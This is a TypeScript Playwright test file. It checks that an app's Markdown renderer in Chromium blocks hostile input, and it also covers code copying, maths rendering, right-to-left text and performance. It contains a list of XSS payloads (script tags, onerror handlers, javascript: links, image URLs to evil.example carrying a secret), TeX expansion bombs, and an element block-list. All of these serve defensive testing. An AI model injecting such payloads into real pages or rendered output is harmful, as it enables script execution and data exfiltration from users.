// Proves the drawing of Markdown in a real Chromium, bundled as the app is, under its policy: hostile texts, elements that stay, time.
import { gzipSync } from "node:zlib";
import type { Page } from "playwright-core";
import { costOf, type Cost } from "./cost.ts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { longTexts } from "../ui/markdown-texts.ts";
import type { Watched } from "./chromium.ts";
import { startMarkdownStage, type MarkdownStage } from "./markdown-stage.ts";
import { soon } from "./app-visitor.ts";

let stage: MarkdownStage;
beforeAll(async () => {
  stage = await startMarkdownStage();
}, 60_000);
afterAll(() => stage.close());

async function withPage<T>(use: (watched: Watched) => Promise<T>, width?: number): Promise<T> {
  const watched = await stage.open(width);
  try {
    const result = await use(watched);
    expect(await watched.page.evaluate(() => "pwned" in globalThis)).toBe(false);
    expect(watched.faults).toEqual([]);
    return result;
  } finally {
    await watched.close();
  }
}

const pwn = "globalThis.pwned=1";
const hostile = [
  "![x](https://evil.example/?q=SECRET)",
  "![x][i]\n\n[i]: https://evil.example/?q=SECRET",
  "[![x](https://evil.example/a.png)](https://evil.example/)",
  "![x](//evil.example/a.png) ![x](/other.png) ![x](\\\\evil.example\\a.png)",
  `<script>${pwn}</script>`,
  `<img src=x onerror="${pwn}">`,
  `<svg onload="${pwn}"></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form action="https://evil.example"><button>a</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/z)" id="stage">x</div>`,
  `<a name=stage id=stage href="javascript:${pwn}">x</a>`,
  `[a](javascript:${pwn}) [b](JaVaScRiPt:${pwn}) [c](java\tscript:${pwn}) [d](javascript&#58;${pwn}) [e](data:text/html,<script>${pwn}</script>)`,
  `[f](<javascript:${pwn}>) <javascript:${pwn}> [g](vbscript:x) [h](//evil.example) [i](\u0001javascript:${pwn})`,
  `[j]\n\n[j]: javascript:${pwn}`,
  "$\\href{javascript:globalThis.pwned=1}{x}$ and $\\htmlData{a=b}{x}$ $\\url{javascript:1}$",
  "$$\n\\includegraphics{https://evil.example/a.png}\n$$",
  "$\\fcolorbox{red}{blue}{x} \\pmb{y} \\textcolor{white}{z} \\htmlStyle{color:red}{x} \\htmlId{stage}{x}$",
  '```mermaid\ngraph TD\nclick A href "javascript:globalThis.pwned=1"\n```',
  `\`\`\`html\n<script>${pwn}</script><img src=x onerror=${pwn}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${pwn}>\ncode\n\`\`\``,
  `| <img src=x onerror=${pwn}> |\n|---|\n| ![x](https://evil.example/t.png) |`,
  `[click](https://evil.example/"onmouseover="${pwn})`,
  "[x](https://a.example 'onclick=1') <https://b.example/\"onclick=1>",
  `# <script>${pwn}</script>\n\n> <img src=x onerror=${pwn}>\n\n- <svg/onload=${pwn}>`,
];

describe("hostile texts", () => {
  test.each([2, 7])(
    "LO01 LO03 LO04 LO05 LO07 MK7 MK4 MK6 streamed in pieces of %i, nothing runs, loads or leaves",
    async (size) => {
      await withPage(async ({ page }) => {
        await page.evaluate(() => globalThis.stage.hurry());
        const text = hostile.join("\n\n");
        for (const one of [text, ...hostile.slice(0, 4)]) {
          await page.evaluate(([text, size]) => globalThis.stage.stream(text, size), [one, size] as const);
        }
        await page.evaluate(([text]) => globalThis.stage.stream(text, text.length), [text] as const);
        await page.waitForFunction(() => document.querySelector(".hljs-tag") !== null);
        const found = await page.evaluate(() => ({
          elements: [...document.querySelectorAll("main *")].map((one) => one.localName),
          addresses: [...document.querySelectorAll("main [href], main [src], main [action]")].map(
            (one) => one.getAttribute("href") ?? one.getAttribute("src"),
          ),
          attributes: [...document.querySelectorAll("main *")].flatMap((one) => one.getAttributeNames()),
        }));
        const refused =
          /^(?:script|iframe|object|embed|form|base|meta|link|style|img|image|use|animate|foreignobject)$/;
        expect(found.elements.filter((name) => refused.test(name))).toEqual([]);
        expect(found.addresses.length).toBeGreaterThan(2);
        for (const address of found.addresses) expect(address).toMatch(/^https:\/\//);
        expect(found.attributes.filter((name) => /^(?:on|id$|name$|srcdoc|formaction)/.test(name))).toEqual([]);
      });
    },
  );

  test("LO01 LO04 MK4 MK6 even pointing at it asks no other host for anything", async () => {
    await withPage(async ({ page }) => {
      await page.evaluate((text) => globalThis.stage.show(text, false), hostile.slice(0, 3).join("\n\n"));
      const buttons = page.locator("main .md-image-button");
      await soon(() => buttons.count()).toBe(2);
      for (const button of await buttons.all()) {
        await button.hover();
        await button.focus();
        await soon(() => button.textContent()).toContain("evil.example");
      }
    });
  });

  test("LO08 MK9 formulas that blow up, link or ask for too much end within 100 ms and stay text", async () => {
    await withPage(async ({ page }) => {
      await page.evaluate(() => globalThis.stage.drawMaths("x"));
      const bombs = [
        String.raw`\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\e\e}\def\e{\f\f}\def\f{\g\g}\def\g{\h\h}\def\h{xx}\a\a\a\a\a\a\a\a`,
        String.raw`\edef\x{yy}` + String.raw`\edef\x{\x\x}`.repeat(40) + String.raw`\x`,
        String.raw`\def\a{\a\a}\a`,
        "{".repeat(1500) + "x" + "}".repeat(1500),
        String.raw`\frac{1}{`.repeat(400) + "x" + "}".repeat(400),
        String.raw`\sqrt{`.repeat(600) + "x" + "}".repeat(600),
        "x^{".repeat(1000) + "x" + "}".repeat(1000),
        String.raw`\left(`.repeat(500) + String.raw`\right)`.repeat(500),
        String.raw`\begin{matrix}` + "a&".repeat(1900) + String.raw`\end{matrix}`,
        String.raw`\textcolor{white}{a}\color{white}b\colorbox{white}{c}\fcolorbox{white}{white}{d}`,
        String.raw`\rule{999999em}{999999em}`,
        String.raw`\href{javascript:globalThis.pwned=1}{x}`,
        String.raw`\htmlData{a=b}{x}\includegraphics{https://evil.example/a.png}`,
        String.raw`\unknown{<img src=x onerror=globalThis.pwned=1>}`,
        String.raw`\text{<img src=x onerror=globalThis.pwned=1>}`,
        String.raw`\fcolorbox{red}{blue}{x}\pmb{y}\colorbox{red}{x}\cancel{x}\boxed{x}\phase{x}`,
        "x+".repeat(749) + "x",
        String.raw`\frac{1}{`.repeat(24) + "x^{2}".repeat(300) + "}".repeat(24),
        String.raw`\sqrt{x}`.repeat(180),
      ];
      let [worst, which] = [0, ""];
      for (const tex of bombs) {
        const draw = () => page.evaluate((tex) => globalThis.stage.drawMaths(tex), tex);
        const { drawn, html, took: first } = await draw();
        // The best of three: what else this machine does is not the formula's.
        let took = first;
        for (let again = 0; again < 2 && took >= 100; again++) took = Math.min(took, (await draw()).took);
        if (took > worst) [worst, which] = [took, tex.slice(0, 30)];
        if (tex.includes("white"))
          expect([drawn, html.replaceAll(/<annotation.*?<\/annotation>|<[^>]*>/gs, "")]).toEqual([
            true,
            expect.stringContaining("abcd"),
          ]);
        const made = html.replaceAll(/<annotation.*?<\/annotation>/gs, "");
        expect(made).not.toMatch(/<(?:a|img)\b|href=|data-a|999999/);
        expect(made).not.toMatch(/ style=|mathcolor="(?!currentcolor)|mathbackground="(?!black)/);
        expect(took, tex.slice(0, 40)).toBeLessThan(100);
      }
      console.log(`slowest formula: ${worst.toFixed(1)} ms, ${which}`);
    });
  });
});

describe("what is finished", () => {
  const kinds = [
    ["mixed", 60],
    ["list", 200],
    ["table", 200],
    ["code", 2],
  ] as const;
  test.each(kinds)("MK2 keeps its elements, unchanged, while the rest streams: %s", async (kind, least) => {
    await withPage(async ({ page }) => {
      await page.evaluate(() => globalThis.stage.hurry());
      // Colours come later and change what is in code: without a language there are none.
      const text = (longTexts[kind]?.(8000) ?? "").replaceAll("```typescript", "```");
      expect(
        await page.evaluate(([text, least]) => globalThis.stage.watch(text, 23, least), [text, least] as const),
      ).toEqual([]);
    });
  });

  test("MK2 MK8 colours come into the elements that are there; the text of the code is the same", async () => {
    await withPage(async ({ page }) => {
      const text = `Before\n\n${longTexts["code"]?.(5000) ?? ""}\n\`\`\`\n\nAfter\n`;
      const [before, after] = await page.evaluate(async (text) => {
        globalThis.stage.show(text, true);
        await new Promise((resolve) => requestAnimationFrame(resolve));
        const code = document.querySelector("pre code");
        const chunks = [...document.querySelectorAll(".md-chunk")];
        const before = code?.textContent;
        globalThis.stage.show(text, false);
        while (document.querySelector(".hljs-keyword") === null) {
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
        const now = [...document.querySelectorAll(".md-chunk")];
        if (chunks.length < 2 || chunks.some((chunk, i) => chunk !== now[i])) throw new Error("A part was replaced.");
        return [before, document.querySelector("pre code")?.textContent];
      }, text);
      expect(after).toBe(before);
    });
  });
});

test("MK10 the head of long code stays in view, copies, tells and downloads; wide code scrolls inside", async () => {
  await withPage(async ({ page }) => {
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const code = Array.from({ length: 200 }, (_, i) => `line ${i} ${"wide ".repeat(60)}`).join("\n");
    await page.evaluate((text) => globalThis.stage.show(text, false), `Text\n\n\`\`\`python\n${code}\n\`\`\`\n\nText`);
    await page.evaluate(() => window.scrollTo(0, 2500));
    const copy = page.getByRole("button", { name: "Copy code" });
    await soon(async () => {
      const box = await copy.boundingBox();
      return box !== null && box.y >= 0 && box.y < 60;
    }).toBe(true);
    await copy.click();
    await page.getByRole("button", { name: "Copied" }).waitFor();
    await soon(() => page.evaluate(() => navigator.clipboard.readText())).toBe(code);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("code.py");
    const region = page.getByRole("region", { name: "Code, python" });
    await region.focus();
    const wide = await page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth);
    expect(wide).toBe(false);
    await soon(() => region.evaluate((pre) => pre.scrollWidth > pre.clientWidth + 100)).toBe(true);
    // What a person selects and copies by hand is the code, over the joints of its parts.
    await region.evaluate((pre) => getSelection()?.selectAllChildren(pre));
    await soon(() => page.evaluate(() => getSelection()?.toString().trimEnd())).toBe(code.trimEnd());
  }, 360);
});

test("MK9 formulas are drawn under the strict policy, with no style of their own; a wide one can be reached by keyboard", async () => {
  await withPage(async ({ page }) => {
    const wide = "x + ".repeat(200);
    await page.evaluate(
      (text) => globalThis.stage.show(text, false),
      `So $E = mc^2$ and\n\n$$\n\\begin{pmatrix} a & \\sqrt{b} \\\\ c & d \\end{pmatrix} \\fcolorbox{red}{blue}{x} \\pmb{y} \\color{red}{z}\n$$\n\n$$\n${wide}x\n$$`,
    );
    await page.waitForFunction(() => document.querySelectorAll(".md math").length === 3);
    const found = await page.evaluate(() => {
      const sizeOf = (tag: string): number => document.querySelector(`.md ${tag}`)?.getBoundingClientRect().height ?? 0;
      return {
        space: document.querySelector(".md math")?.namespaceURI,
        styled: document.querySelectorAll(".md-math [style], .md-math [mathcolor], .md-math [mathbackground]").length,
        heights: [sizeOf("mtable"), sizeOf("mi")],
      };
    });
    expect(found.space).toBe("http://www.w3.org/1998/Math/MathML");
    expect(found.styled).toBe(0);
    // It is laid out as mathematics: two rows are higher than a letter.
    expect(found.heights[0]).toBeGreaterThan(2 * (found.heights[1] ?? 0));
    const last = page.locator(".md-math-block").last();
    await last.focus();
    await soon(() => last.evaluate((one) => one.scrollWidth > one.clientWidth && one === document.activeElement)).toBe(
      true,
    );
  }, 360);
});

test("MK12 a text from right to left is drawn so, its code not; the page never scrolls sideways", async () => {
  await withPage(async ({ page }) => {
    const text = `مرحبا بالعالم \`code\`\n\n- عنصر\n\n\`\`\`js\nlet a;\n\`\`\`\n\nHello ${"a".repeat(300)}\n\n${longTexts["table"]?.(600) ?? ""}`;
    await page.evaluate((text) => globalThis.stage.show(text, false), text);
    const directions = (): Promise<string[]> =>
      page.evaluate(() =>
        ["p", "p code", "ul", "figure", "p:last-of-type"].map((selector) => {
          const element = document.querySelector(`.md ${selector}`);
          return element === null ? "" : getComputedStyle(element).direction;
        }),
      );
    await soon(directions).toEqual(["rtl", "ltr", "rtl", "ltr", "ltr"]);
    await soon(() =>
      page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth),
    ).toBe(true);
  }, 360);
});

function measure(page: Page, text: string, size: number): Promise<Cost> {
  return costOf(page, () =>
    page.evaluate(([text, size]) => globalThis.stage.stream(text, size), [text, size] as const),
  );
}

test("MK2 MK8 a reply of 50,000 characters costs script time in proportion, and no task of 50 ms", async () => {
  const found: { length: number; script: number; longest: number }[] = [];
  for (const length of [12_500, 25_000, 50_000]) {
    await withPage(async ({ page }) => {
      // What is loaded on first use is the page's start, not this reply's.
      await page.evaluate(() => globalThis.stage.stream("```js\nlet a;\n```\n\nEnd\n", 5));
      await page.waitForFunction(() => document.querySelector(".hljs-keyword") !== null);
      const { script, longest, frames } = await measure(page, longTexts["mixed"]?.(length) ?? "", 400);
      found.push({ length, script, longest });
      console.log(
        `${length} characters: script ${script.toFixed(0)} ms, ${frames} frames, longest task ${longest.toFixed(1)} ms of CPU`,
      );
    });
  }
  const [first, , last] = found;
  expect((last?.script ?? 0) / (first?.script ?? 1)).toBeLessThan(8);
  for (const { longest } of found) expect(longest).toBeLessThan(50);
});

test("MK8 MK9 what a first page loads is small: colours and formulas are parts of their own", () => {
  const sizes = [...stage.files].flatMap(([path, file]) =>
    path.endsWith(".js") ? [{ path, size: gzipSync(file).length }] : [],
  );
  for (const { path, size } of sizes) console.log(`${path}: ${(size / 1000).toFixed(1)} kB gzip`);
  const page = sizes.find(({ path }) => path.includes("markdown-page"));
  expect(page?.size).toBeLessThan(40_000);
  for (const part of ["highlight", "katex"]) expect(sizes.some(({ path }) => path.includes(part))).toBe(true);
  expect([...stage.files.keys()].filter((path) => /\.(?:woff2?|ttf)$/.test(path))).toEqual([]);
});
